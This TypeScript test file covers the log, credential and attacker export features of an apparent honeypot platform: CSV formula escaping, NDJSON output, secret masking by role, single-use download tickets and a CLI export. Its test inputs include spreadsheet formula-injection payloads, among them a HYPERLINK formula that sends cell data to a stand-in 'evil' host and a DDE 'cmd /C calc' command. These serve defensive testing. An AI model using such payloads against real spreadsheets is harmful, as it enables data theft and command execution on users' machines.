// exports.* and GET /exports/<ticket>: the procedures issue single-use, short-lived tickets; the
// HTTP server streams the file. Real API runtime and database, real HTTP on loopback, files read back
// with a real CSV parser.
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
import type http from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import type { LogEventInput } from '@decnet/db'
import { logEventFixture } from '@decnet/db/testing'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvCell, MAX_CSV_CELL } from '../src/exports/csv.ts'
import { createApiServer, listen } from '../src/server.ts'
import { codeOf, login, NEW_ADMIN_PASSWORD } from './support/accounts.ts'
import { decnet } from './support/cli.ts'
import { inProcessApiOfSuite, NO_WORKERS } from './support/in-process.ts'

/** A stored login attempt on web-01 (the decky every test here reads back). */
const event = (overrides: Partial<LogEventInput>) => logEventFixture({ decky: 'web-01', ...overrides })

// What a spreadsheet would run, in every field an attacker controls.
const FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)']

describe('csv cells', () => {
  it('escapes every formula-starting character with a leading apostrophe', () => {
    for (const text of [...FORMULAS, '\tTAB', '\rCR']) expect(csvCell(text).replace(/^"/, '')[0]).toBe("'")
    expect(csvCell('=1+1')).toBe("'=1+1")
    expect(csvCell('a=1')).toBe('a=1')
    expect(csvCell(-5)).toBe("'-5")
  })

  it('quotes as RFC 4180 says and caps long cells', () => {
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell(null)).toBe('')
    const long = csvCell('x'.repeat(MAX_CSV_CELL * 3))
    expect(long.length).toBe(MAX_CSV_CELL)
    expect(long.endsWith('…[cut]')).toBe(true)
  })
})

describe('exports', () => {
  const api = inProcessApiOfSuite({ env: NO_WORKERS, viewer: 'viewer1' })
  let server: http.Server
  let base: string

  /** GETs a ticket's URL: status, headers and body text. */
  async function download(url: string) {
    const response = await fetch(`${base}${url}`)
    return { status: response.status, headers: response.headers, text: await response.text() }
  }

  const csvRows = (text: string): Record<string, string>[] => parse(text, { columns: true })

  beforeAll(async () => {
    server = createApiServer(api.services)
    const address: AddressInfo = await listen(server, 0, '127.0.0.1')
    base = `http://127.0.0.1:${address.port}`
    await api.services.db.logs.ingest([
      ...FORMULAS.map((formula, i) =>
        event({
          timestamp: new Date(Date.UTC(2026, 10, 25, 10, i)),
          eventType: 'command',
          rawLine: formula,
          fields: { command: formula },
        }),
      ),
      event({
        timestamp: new Date('2026-11-25T11:00:00Z'),
        attackerIp: '198.51.100.9',
        rawLine: 'login root / hunter2-secret',
        fields: { username: 'root', password: 'hunter2-secret', secret_fields: ['password'] },
      }),
      event({
        timestamp: new Date('2026-11-25T12:00:00Z'),
        decky: 'db-01',
        service: 'mysql',
        rawLine: 'hello',
      }),
      // DECNET's own readiness probe: not attack traffic.
      event({
        timestamp: new Date('2026-11-25T12:30:00Z'),
        decky: 'db-01',
        service: 'mysql',
        eventType: 'connect',
        attackerIp: '127.0.0.1',
        rawLine: 'probe',
        system: true,
      }),
    ])
  })
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))

  it('streams the current logs search as CSV: query, time range, headers, newest first', async () => {
    const ticket = await api.admin.exports.logs({
      format: 'csv',
      q: 'service:ssh',
      to: '2026-11-25T10:30:00Z',
    })
    expect(ticket.url).toMatch(/^\/exports\//)
    expect(ticket.filename).toMatch(/^decnet-logs-\d{8}T\d{6}Z\.csv$/)
    const { status, headers, text } = await download(ticket.url)
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="decnet-logs-.*\.csv"$/)
    expect(text.split('\r\n')[0]).toBe(
      'id,timestamp,decky,service,eventType,attackerIp,attackerPort,system,fields,message',
    )
    const rows = csvRows(text)
    // The 4 commands before 10:30 on ssh; not the 11:00 login nor the mysql event.
    expect(rows.map((row) => row.message)).toEqual([...FORMULAS].reverse().map((formula) => `'${formula}`))
    expect(rows.every((row) => row.service === 'ssh' && row.decky === 'web-01')).toBe(true)
  })

  it('escapes every attacker-written formula in the file', async () => {
    const { text } = await download((await api.admin.exports.logs({ format: 'csv' })).url)
    const cells = csvRows(text).flatMap((row) => Object.values(row))
    expect(cells.length).toBeGreaterThan(0)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(cells).toContain("'+cmd|' /C calc'!A0")
  })

  it('writes NDJSON, one JSON object per line', async () => {
    const ticket = await api.admin.exports.logs({ format: 'ndjson', q: 'decky:db-01' })
    const { headers, text } = await download(ticket.url)
    expect(headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    const lines = text.trimEnd().split('\n')
    expect(lines).toHaveLength(1)
    expect(JSON.parse(lines[0] as string)).toMatchObject({
      decky: 'db-01',
      service: 'mysql',
      message: 'hello',
      system: false,
    })
  })

  it('leaves DECNET`s own probe traffic out unless the query asks for it (system:true / system:any)', async () => {
    const messages = async (q: string) =>
      (await download((await api.admin.exports.logs({ format: 'ndjson', q })).url)).text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).message)
    expect(await messages('decky:db-01')).toEqual(['hello'])
    expect(await messages('decky:db-01 system:true')).toEqual(['probe'])
    expect(await messages('decky:db-01 system:any')).toEqual(['probe', 'hello'])
  })

  it('masks captured secrets for viewers and shows them to admins', async () => {
    const q = 'attacker:198.51.100.9'
    const viewer = (await download((await api.viewer.exports.logs({ format: 'ndjson', q })).url)).text
    const admin = (await download((await api.admin.exports.logs({ format: 'ndjson', q })).url)).text
    expect(viewer).not.toContain('hunter2-secret')
    expect(JSON.parse(viewer).message).toBeUndefined()
    expect(admin).toContain('hunter2-secret')
  })

  it('gives viewers credentials without their secrets, admins with them', async () => {
    const viewerTicket = await api.viewer.exports.credentials({ format: 'csv' })
    expect(viewerTicket.secretsOmitted).toBe(true)
    const viewer = await download(viewerTicket.url)
    expect(viewer.text.split('\r\n')[0]).not.toContain('secret')
    expect(viewer.text).not.toContain('hunter2-secret')
    expect(csvRows(viewer.text)).toEqual([expect.objectContaining({ principal: 'root', kind: 'password' })])
    const adminTicket = await api.admin.exports.credentials({ format: 'csv' })
    expect(adminTicket.secretsOmitted).toBe(false)
    expect(csvRows((await download(adminTicket.url)).text)[0]).toMatchObject({
      principal: 'root',
      secret: 'hunter2-secret',
    })
  })

  it('exports attackers with the Attackers page filter', async () => {
    const { text } = await download((await api.viewer.exports.attackers({ format: 'csv', q: '198.51.' })).url)
    const rows = csvRows(text)
    expect(rows.map((row) => row.ip)).toEqual(['198.51.100.9'])
    expect(JSON.parse(rows[0]?.services as string)).toEqual(['ssh'])
  })

  it('refuses anonymous callers and malformed queries before any ticket', async () => {
    expect(await codeOf(api.as().exports.logs({ format: 'csv' }))).toBe('UNAUTHORIZED')
    expect(await codeOf(api.viewer.exports.logs({ format: 'csv', q: '"unterminated' }))).toBe('BAD_REQUEST')
    expect(await codeOf(api.viewer.exports.logs({ format: 'stix' } as never))).toBe('BAD_REQUEST')
  })

  it('serves a ticket once', async () => {
    const ticket = await api.viewer.exports.logs({ format: 'csv' })
    expect((await download(ticket.url)).status).toBe(200)
    const again = await download(ticket.url)
    expect(again.status).toBe(410)
    expect(again.text).toContain('already used')
  })

  it('refuses an expired, forged or foreign ticket, and one whose session ended', async () => {
    const me = await api.viewer.auth.me()
    const expired = await api.services.exportTickets.issue({
      userId: me.id,
      sessionJti: 'no-matter',
      request: { kind: 'credentials', format: 'csv' },
      now: new Date(Date.now() - 120_000),
    })
    expect((await download(`/exports/${expired.ticket}`)).status).toBe(410)

    const ticket = await api.viewer.exports.logs({ format: 'csv' })
    const [head, payload, signature] = ticket.url.slice('/exports/'.length).split('.')
    const forged = `${head}.${payload}.${signature?.startsWith('A') ? 'B' : 'A'}${signature?.slice(1)}`
    expect((await download(`/exports/${forged}`)).status).toBe(404)
    // A session token is not a download ticket.
    const session = await login(api, 'viewer1', 'viewer1-changed-pw-1')
    expect((await download(`/exports/${session.token}`)).status).toBe(404)
    // Signed out before the download: the ticket dies with its session.
    const pending = await session.client.exports.logs({ format: 'csv' })
    await session.client.auth.logout()
    expect((await download(pending.url)).status).toBe(401)
  })

  it('only answers GET', async () => {
    const ticket = await api.viewer.exports.logs({ format: 'csv' })
    expect((await fetch(`${base}${ticket.url}`, { method: 'POST' })).status).toBe(405)
    expect((await download(ticket.url)).status).toBe(200)
  })

  it('decnet export writes the file (0600) or stdout, and says why a query is refused', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'decnet-export-cli-'))
    try {
      const admin = { url: base, token: await api.signIn('admin', NEW_ADMIN_PASSWORD) }
      const file = path.join(dir, 'logs.csv')
      const written = await decnet(
        ['export', 'logs', '--format', 'csv', '-q', 'decky:db-01', '--out', file],
        admin,
      )
      expect(written.code, written.stderr).toBe(0)
      expect(written.stdout).toMatch(/^exported \d+ bytes to /)
      expect(statSync(file).mode & 0o777).toBe(0o600)
      expect(csvRows(readFileSync(file, 'utf8'))).toEqual([
        expect.objectContaining({ decky: 'db-01', service: 'mysql', message: 'hello' }),
      ])

      const viewer = { url: base, token: await api.signIn('viewer1', 'viewer1-changed-pw-1') }
      const credentials = await decnet(['export', 'credentials', '--format', 'ndjson'], viewer)
      expect(credentials.code, credentials.stderr).toBe(0)
      expect(JSON.parse(credentials.stdout)).toMatchObject({ principal: 'root', kind: 'password' })
      expect(credentials.stdout).not.toContain('hunter2-secret')

      const refused = await decnet(['export', 'logs', '-q', '"unterminated'], viewer)
      expect(refused.code).toBe(1)
      expect(refused.stderr).toContain('unterminated quote')
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  }, 60_000)
})
